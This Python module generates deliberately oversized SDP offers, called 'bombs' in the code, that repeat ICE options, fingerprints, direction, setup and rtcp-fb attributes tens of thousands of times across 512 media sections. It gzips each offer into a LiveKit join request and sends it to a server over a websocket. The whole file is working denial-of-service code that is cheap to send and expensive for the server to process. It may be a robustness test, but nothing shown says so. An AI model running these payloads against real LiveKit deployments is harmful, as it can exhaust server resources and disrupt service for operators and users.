"""Session descriptions that are small to send and would be large, or long, to read."""

import base64
import gzip
from collections.abc import Iterator

from livekit.protocol import models
from livekit.protocol import rtc as protocol
from websockets.asyncio.client import connect

from .tokens import token

_SESSION = "v=0\r\no=- 1 1 IN IP4 0.0.0.0\r\ns=-\r\nt=0 0\r\n"
_SECTIONS = "m=audio 9 RTP/AVP 0\r\n" * 512
_FINGERPRINT = "a=fingerprint:sha-256 " + ":".join(["AA"] * 32) + "\r\n"


def bombs() -> Iterator[tuple[str, str]]:
    """Each by its name. Those of the session are handed down to 512 sections, those of sections are compared with each other."""
    yield "ICE options", f"{_SESSION}a=ice-options:{'x ' * 400_000}\r\n{_SECTIONS}"
    yield "fingerprints", _SESSION + _FINGERPRINT * 2_000 + _SECTIONS
    yield "directions", _SESSION + "a=inactive\r\n" * 50_000 + _SECTIONS
    yield "roles", _SESSION + "a=setup:passive\r\n" * 20_000 + _SECTIONS
    attributes = "m=audio 9 RTP/AVP 0\r\n" + "a=x\r\n" * 9_000 + _FINGERPRINT
    yield "fingerprints of no use", _SESSION + "a=fingerprint:\r\n" * 3_000 + attributes
    formats = "m=audio 9 RTP/AVP " + " ".join(map(str, range(128))) + "\r\n"
    formats += "".join(f"a=rtpmap:{number} a/1\r\n" for number in range(128))
    yield "feedback", _SESSION + (formats + "".join(f"a=rtcp-fb:* {kind}\r\n" for kind in range(1_024))) * 20


async def join_with(url: str, room: str, identity: str, sdp: str) -> None:
    """Joins with an offer in the request, packed into a few kB, and leaves; whatever the server makes of it is fine."""
    request = protocol.JoinRequest(
        client_info=models.ClientInfo(sdk=models.ClientInfo.PYTHON, version="1", protocol=16),
        publisher_offer=protocol.SessionDescription(type="offer", sdp=sdp, id=1),
    )
    wrapped = protocol.WrappedJoinRequest(
        compression=protocol.WrappedJoinRequest.GZIP,
        join_request=gzip.compress(request.SerializeToString(), 9),
    )
    packed = base64.urlsafe_b64encode(wrapped.SerializeToString()).decode()
    address = f"{url}/rtc/v1?join_request={packed}&access_token={token(room, identity)}"
    async with connect(address, proxy=None, open_timeout=10) as socket:
        await socket.recv()
